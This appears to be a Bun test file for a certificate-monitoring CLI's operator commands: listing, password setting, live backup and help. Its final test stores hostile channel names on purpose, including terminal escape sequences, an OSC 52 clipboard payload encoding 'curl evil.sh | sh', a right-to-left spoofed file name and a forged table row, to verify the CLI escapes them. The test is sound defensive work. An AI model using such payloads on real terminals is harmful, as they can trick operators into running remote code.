/**
 * The operator's commands of CONTRACT §17 as real processes: `org list`, `user list`,
 * `user set-password`, `certificate list`, `backup --to` (taken while the server runs and writes,
 * then opened as the database of another server), and `help`/`--help` on every command.
 */
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { chainPem, createLeaf, DAY } from "./support/pki.ts";
import { startTlsServer, type TlsTestServer } from "./support/servers.ts";
import { testPki, TEST_DOMAIN } from "./support/harness.ts";
import { logLinesOf, messagesOf, CLI_MAIN, expectFailure, expectUsageError, ISO, runCli, runCliJson, startServe, workspacesRemovedAfterAll, type ServeProcess, type Workspace } from "./support/cli.ts";
import { WebClient } from "./support/web_client.ts";
import { writeFileSync } from "node:fs";
import { openLibsqlStore } from "../adapters/libsql/mod.ts";
import { createHarness } from "./support/harness.ts";

setDefaultTimeout(60_000);

const workspace = workspacesRemovedAfterAll();
const PASSWORD = "N3w-passw0rd-for-tests";

describe("finding organizations and users again", () => {
  test("org list shows every organization, oldest first; user list shows an organization's users and who can sign in", async () => {
    const ws = workspace();
    expect(await runCliJson(["org", "list"], { env: ws.env })).toEqual([]);
    const empty = await runCli(["org", "list"], { env: ws.env });
    expect(empty).toEqual({ code: 0, stderr: "", stdout: expect.stringContaining("org create --name") });
    const acme = await runCliJson(["org", "create", "--name", "Acme"], { env: ws.env });
    const globex = await runCliJson(["org", "create", "--name", "Globex", "--plan", "pro"], { env: ws.env });
    const orgs = await runCliJson(["org", "list"], { env: ws.env });
    const none = { certificates: 0, channels: 0, watches: 0 };
    expect(orgs).toEqual([
      { ...acme, usage: { live: none, test: none }, createdAt: expect.stringMatching(ISO) },
      { ...globex, usage: { live: none, test: none }, createdAt: expect.stringMatching(ISO) },
    ]);
    const table = await runCli(["org", "list"], { env: ws.env });
    expect(table.stdout.split("\n")[0]).toMatch(/^ID\s+NAME\s+PLAN/);
    expect(table.stdout).toContain(`${acme.id}  Acme`);

    const owner = await runCliJson(["user", "create", "--org", acme.id, "--email", "Owner@Acme.test", "--role", "owner", "--password", PASSWORD], { env: ws.env });
    const member = await runCliJson(["user", "create", "--org", acme.id, "--email", "member@acme.test", "--role", "member"], { env: ws.env });
    await runCliJson(["user", "create", "--org", globex.id, "--email", "other@globex.test", "--role", "owner"], { env: ws.env });
    const users = await runCliJson(["user", "list", "--org", acme.id], { env: ws.env });
    const byEmail = Object.fromEntries(users.map((u: any) => [u.email, u]));
    expect(Object.keys(byEmail).sort()).toEqual(["member@acme.test", "owner@acme.test"]);
    expect(byEmail["owner@acme.test"]).toEqual({ id: owner.id, organizationId: acme.id, email: "owner@acme.test", role: "owner", canSignIn: true, createdAt: expect.stringMatching(ISO) });
    expect(byEmail["member@acme.test"]).toMatchObject({ id: member.id, role: "member", canSignIn: false });
    expectFailure(await runCli(["user", "list", "--org", "org_missing0000000000000"], { env: ws.env }), 1, /org_missing0000000000000/);
    expectUsageError(await runCli(["user", "list"], { env: ws.env }), /--org/);
  });
});

describe("user set-password", () => {
  let ws: Workspace;
  let serve: ServeProcess;
  beforeAll(async () => {
    ws = workspace();
    const org = await runCliJson(["org", "create", "--name", "Acme"], { env: ws.env });
    // The first owner, made without a password as the old README did: set-password is the way out.
    await runCliJson(["user", "create", "--org", org.id, "--email", "first@acme.test", "--role", "owner"], { env: ws.env });
    serve = await startServe({ env: ws.env, cwd: ws.dir });
  });
  afterAll(() => serve?.stop("SIGKILL"));

  const signIn = (email: string, password: string) =>
    new WebClient({ handle: (request) => fetch(request, { redirect: "manual" }) }, serve.url).signIn(email, password).then((page) => page.status);

  test("gives a user without a password one (from stdin with --password -), so they can sign in; the old one stops working", async () => {
    expect(await signIn("first@acme.test", PASSWORD)).toBe(401);
    const set = await runCli(["user", "set-password", "--email", "FIRST@acme.test", "--password", "-", "--json"], { env: ws.env, stdin: `${PASSWORD}\n` });
    expect({ code: set.code, stderr: messagesOf(set.stderr) }).toEqual({ code: 0, stderr: "" });
    expect(JSON.parse(set.stdout)).toEqual({ id: expect.stringMatching(/^usr_/), email: "first@acme.test", canSignIn: true });
    expect(await signIn("first@acme.test", PASSWORD)).toBe(303);

    // Without --password it reads standard input too; --password P sets it directly.
    const again = await runCli(["user", "set-password", "--email", "first@acme.test"], { env: ws.env, stdin: "an-0ther-passw0rd\n" });
    expect({ ...again, stderr: messagesOf(again.stderr) }).toEqual({ code: 0, stderr: "", stdout: expect.stringContaining("first@acme.test") });
    // Logged as the server logs it: the user's id, never the password.
    expect(logLinesOf(again.stderr).map((line) => [line.msg, line.userId])).toEqual([["password set", expect.stringMatching(/^usr_/)]]);
    expect(again.stderr).not.toContain("an-0ther-passw0rd");
    expect(await signIn("first@acme.test", PASSWORD)).toBe(401);
    expect(await signIn("first@acme.test", "an-0ther-passw0rd")).toBe(303);
  });

  test("at a terminal it prompts for the password and does not show what is typed", async () => {
    const typed = "typed-at-a-terminal-0";
    const command = [process.execPath, CLI_MAIN, "user", "set-password", "--email", "first@acme.test"].join(" ");
    // `script` gives the command a real terminal; the password is typed once the prompt is up.
    const child = Bun.spawn(["script", "-qec", command, "/dev/null"], { env: { ...process.env, ...ws.env }, stdin: "pipe", stdout: "pipe", stderr: "pipe" });
    const output = (async () => {
      let text = "";
      let sent = false;
      for await (const chunk of child.stdout) {
        text += new TextDecoder().decode(chunk);
        if (!sent && text.includes("not shown")) {
          sent = true;
          child.stdin.write(`${typed}\r`);
          child.stdin.flush();
        }
      }
      return text;
    })();
    const [text, code] = await Promise.all([output, child.exited]);
    expect(code).toBe(0);
    expect(text).toContain("Password (at least 10 characters, not shown): ");
    expect(text).toContain("Password set for first@acme.test");
    expect(text).not.toContain(typed);
    expect(await signIn("first@acme.test", typed)).toBe(303);
  });

  test("refuses an unknown email (exit 1, naming it), a short password, and a call without --email (exit 2)", async () => {
    expectFailure(await runCli(["user", "set-password", "--email", "nobody@acme.test", "--password", PASSWORD], { env: ws.env }), 1, /nobody@acme\.test/);
    expectFailure(await runCli(["user", "set-password", "--email", "first@acme.test", "--password", "short"], { env: ws.env }), 1, /10/);
    expectUsageError(await runCli(["user", "set-password", "--password", PASSWORD], { env: ws.env }), /--email/);
  });
});

describe("certificate list and backup, beside a running server", () => {
  let ws: Workspace;
  let serve: ServeProcess;
  let org: any;
  let key: string;
  let testKey: string;
  const servers: TlsTestServer[] = [];
  const domain = (name: string) => `${name}.list.${TEST_DOMAIN}`;
  const ports: Record<string, number> = {};

  beforeAll(async () => {
    ws = workspace();
    const { root, rsaIntermediate } = await testPki();
    const caFile = join(ws.dir, "root.pem");
    writeFileSync(caFile, root.certPem);
    for (const [name, days] of [["soon", 10], ["later", 200], ["middle", 60]] as const) {
      // 90 days old: "soon" is past its renewal deadline (three quarters of its lifetime), so expiring.
      const leaf = await createLeaf({ issuer: rsaIntermediate, dnsNames: [domain(name)], notBefore: new Date(Date.now() - 90 * DAY), notAfter: new Date(Date.now() + days * DAY + 3_600_000) });
      const server = await startTlsServer({ cert: chainPem(leaf, rsaIntermediate), key: leaf.keyPem });
      servers.push(server);
      ports[name] = server.port;
    }
    Object.assign(ws.env, {
      CERTKEEPER_RESOLVE: `*.list.${TEST_DOMAIN}=127.0.0.1`,
      CERTKEEPER_ALLOW_PRIVATE_TARGETS: "true",
      CERTKEEPER_EXTRA_CA_FILE: caFile,
    });
    org = await runCliJson(["org", "create", "--name", "Listers", "--plan", "enterprise", "--rate-limit", "1000000", "--channel-limit", "1000000"], { env: ws.env });
    const owner = await runCliJson(["user", "create", "--org", org.id, "--email", "lister@acme.test", "--role", "owner"], { env: ws.env });
    key = (await runCliJson(["key", "create", "--user", owner.id, "--name", "live"], { env: ws.env })).key;
    testKey = (await runCliJson(["key", "create", "--user", owner.id, "--name", "test", "--test"], { env: ws.env })).key;
    serve = await startServe({ env: ws.env, cwd: ws.dir });
    for (const name of ["later", "soon", "middle"]) await api("POST", "/v1/certificates", key, { domain: domain(name), port: ports[name] }, 201);
    await api("POST", "/v1/certificates", testKey, { domain: domain("later"), port: ports.later, name: "Test copy" }, 201);
  });

  afterAll(async () => {
    await serve?.stop("SIGKILL");
    await Promise.all(servers.map((s) => s.close()));
  });

  async function api(method: string, path: string, apiKey: string, body?: unknown, status = 200, url = serve.url) {
    const response = await fetch(`${url}${path}`, {
      method,
      headers: { authorization: `Bearer ${apiKey}`, ...(body ? { "content-type": "application/json" } : {}) },
      body: body ? JSON.stringify(body) : undefined,
    });
    const json: any = await response.json();
    expect({ path, status: response.status }).toEqual({ path, status });
    return json;
  }

  test("certificate list --json is GET /v1/certificates' items, soonest expiry first; --mode and --status filter", async () => {
    const listed = await runCliJson(["certificate", "list", "--org", org.id], { env: ws.env });
    const fromApi = (await api("GET", "/v1/certificates?limit=100", key)).data;
    const stable = (items: any[]) => items.map(({ daysUntilExpiry, ...rest }: any) => rest);
    expect(stable(listed)).toEqual(stable(fromApi));
    expect(listed.map((c: any) => c.domain)).toEqual([domain("soon"), domain("middle"), domain("later")]);
    expect((await runCliJson(["certificate", "list", "--org", org.id, "--status", "expiring"], { env: ws.env })).map((c: any) => c.domain)).toEqual([domain("soon")]);
    expect((await runCliJson(["certificate", "list", "--org", org.id, "--status", "valid,expired"], { env: ws.env })).map((c: any) => c.domain)).toEqual([domain("middle"), domain("later")]);
    expect((await runCliJson(["certificate", "list", "--org", org.id, "--mode", "test"], { env: ws.env })).map((c: any) => c.name)).toEqual(["Test copy"]);
  });

  test("certificate list without --json prints a table: id, status, days, expiry, reason, domain", async () => {
    const result = await runCli(["certificate", "list", "--org", org.id], { env: ws.env });
    expect({ code: result.code, stderr: result.stderr }).toEqual({ code: 0, stderr: "" });
    const lines = result.stdout.trimEnd().split("\n");
    expect(lines[0]).toMatch(/^ID\s+STATUS\s+DAYS\s+EXPIRES\s+REASON\s+DOMAIN/);
    expect(lines[1]).toMatch(new RegExp(`^cert_\\w+\\s+expiring\\s+10 days\\s+\\d{4}-\\d\\d-\\d\\d\\s+renewal_overdue\\s+${domain("soon").replace(/\./g, "\\.")}:${ports.soon}`));
    expect(lines).toHaveLength(4);
  });

  test("certificate list refuses a bad --status or --mode (exit 2, naming the flag) and an unknown organization (exit 1)", async () => {
    expectUsageError(await runCli(["certificate", "list", "--org", org.id, "--status", "fine"], { env: ws.env }), /--status.*"fine"/);
    expectUsageError(await runCli(["certificate", "list", "--org", org.id, "--mode", "prod"], { env: ws.env }), /--mode/);
    expectFailure(await runCli(["certificate", "list", "--org", "org_nothere00000000000000"], { env: ws.env }), 1, /org_nothere00000000000000/);
  });

  test("backup --to takes a consistent copy while the server runs and writes; a server started on the copy sees the data", async () => {
    const to = join(ws.dir, "backup.db");
    // Writes go on while the copy is taken.
    let writing = true;
    const writes = (async () => {
      let n = 0;
      while (writing) await api("POST", "/v1/channels", key, { type: "email", name: `During ${n++}`, config: { email: "ops@acme.test" } }, 201).catch(() => {});
    })();
    const result = await runCli(["backup", "--to", to, "--json"], { env: ws.env });
    writing = false;
    await writes;
    expect({ code: result.code, stderr: result.stderr }).toEqual({ code: 0, stderr: "" });
    expect(JSON.parse(result.stdout)).toEqual({ to, bytes: expect.any(Number) });
    expect(existsSync(to)).toBe(true);

    const restoredEnv = { ...ws.env, CERTKEEPER_DATABASE_URL: `file:${to}` };
    expect((await runCliJson(["org", "list"], { env: restoredEnv })).map((o: any) => o.id)).toEqual([org.id]);
    const restored = await startServe({ env: restoredEnv, cwd: ws.dir });
    try {
      const original = (await api("GET", "/v1/certificates?limit=100", key)).data.map((c: any) => c.id);
      const copy = (await api("GET", "/v1/certificates?limit=100", key, undefined, 200, restored.url)).data.map((c: any) => c.id);
      expect(copy).toEqual(original);
      // The key made before the backup works on the copy; the channels are a prefix of what was written.
      const channels = await api("GET", "/v1/channels?limit=100", key, undefined, 200, restored.url);
      for (const channel of channels.data) expect(channel.name).toMatch(/^During \d+$/);
    } finally {
      await restored.stop();
    }
  });

  test("backup refuses an existing file and a remote database, naming what to change", async () => {
    const existing = join(ws.dir, "root.pem");
    expectFailure(await runCli(["backup", "--to", existing], { env: ws.env }), 1, /--to.*already exists/);
    expectFailure(await runCli(["backup", "--to", join(ws.dir, "x.db")], { env: { ...ws.env, CERTKEEPER_DATABASE_URL: "http://127.0.0.1:1" } }), 1, /CERTKEEPER_DATABASE_URL/);
    expectUsageError(await runCli(["backup"], { env: ws.env }), /--to/);
  });
});

describe("help", () => {
  test("help lists every command; help COMMAND and COMMAND --help explain each on stdout with exit 0", async () => {
    const ws = workspace();
    const all = await runCli(["help"], { env: ws.env });
    expect({ code: all.code, stderr: all.stderr }).toEqual({ code: 0, stderr: "" });
    const commands = all.stdout
      .split("\n")
      .filter((line) => line.startsWith("  ") && !line.startsWith("  help"))
      .map((line) => line.trim().split(" ").filter((word) => /^[a-z-]+$/.test(word)).slice(0, 2))
      .map((words) => (["serve", "check", "backup", "import"].includes(words[0]!) ? [words[0]!] : words));
    expect(commands.map((w) => w.join(" "))).toEqual([
      "serve", "org create", "org update", "org list", "user create", "user list", "user set-password",
      "key create", "key revoke", "key list", "certificate add", "certificate list", "certificate remove",
      "channel list", "channel test", "import", "check", "backup",
    ]);
    // Four processes at a time: 26 at once starve each other on a shared 2-core machine.
    const calls = commands.flatMap((words) => [["help", ...words], [...words, "--help"]]);
    const results: Awaited<ReturnType<typeof runCli>>[] = [];
    for (let i = 0; i < calls.length; i += 4) results.push(...(await Promise.all(calls.slice(i, i + 4).map((args) => runCli(args, { env: ws.env })))));
    results.forEach((result, i) => {
      const words = commands[Math.floor(i / 2)]!.join(" ");
      expect({ words, code: result.code, stderr: result.stderr }).toEqual({ words, code: 0, stderr: "" });
      expect(result.stdout).toStartWith(`Usage: certkeeper ${words}`);
      expect(result.stdout.split("\n").length).toBeGreaterThan(2);
    });
    // 37 processes of the CLI, four at a time: a budget per process, not a guess at the machine's speed.
  }, 37 * 15_000 / 4);

  test("a flag another command takes is refused by name; help of an unknown command exits 2", async () => {
    const ws = workspace();
    expectUsageError(await runCli(["org", "list", "--email", "a@b.test"], { env: ws.env }), /--email is not a flag of org list/);
    expectUsageError(await runCli(["help", "frobnicate"], { env: ws.env }), /frobnicate/);
    // Every command but serve takes --json, as the usage says: serve's output is log lines.
    expectUsageError(await runCli(["serve", "--json"], { env: ws.env }), /--json is not a flag of serve/);
  });
});

describe("what tenants typed, at the operator's terminal", () => {
  test("channel list shows a channel name's escape sequences and line breaks as text: nothing for the terminal to act on, no forged row", async () => {
    const ws = workspace();
    const store = await openLibsqlStore({ url: ws.env.CERTKEEPER_DATABASE_URL! });
    const tenant = await createHarness({ store });
    try {
      // An admin of one organization names channels to clear the screen, set the window title, write
      // the operator's clipboard (OSC 52), reorder text, and forge a row of the table.
      const names = ["ops\u001b[2J\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007", "evil\u202etxt.exe", "a\nch_FORGED  webhook  enabled"];
      for (const name of names) expect((await tenant.request("POST", "/v1/channels", { body: { type: "email", name, config: { email: "ops@acme.test" } } })).status).toBe(201);
      const org = tenant.org.id;
      await tenant.core.stop();
      const listed = await runCli(["channel", "list", "--org", org], { env: ws.env });
      expect(listed.code).toBe(0);
      expect(listed.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
      expect(listed.stdout).toContain("ops\\x1b[2J\\x1b]0;pwned\\x07\\x1b]52;c;");
      expect(listed.stdout).toContain("evil\\u202etxt.exe");
      expect(listed.stdout).toContain("a\\x0ach_FORGED");
      // A header and one line a channel: the line break did not make a row of its own.
      expect(listed.stdout.trim().split("\n")).toHaveLength(1 + names.length);
      // --json gives the names as they are, for programs.
      const json = await runCliJson(["channel", "list", "--org", org], { env: ws.env });
      expect(json.map((channel: { name: string }) => channel.name).sort()).toEqual([...names].sort());
    } finally {
      await tenant.close().catch(() => {});
      await store.close().catch(() => {});
    }
  });
});
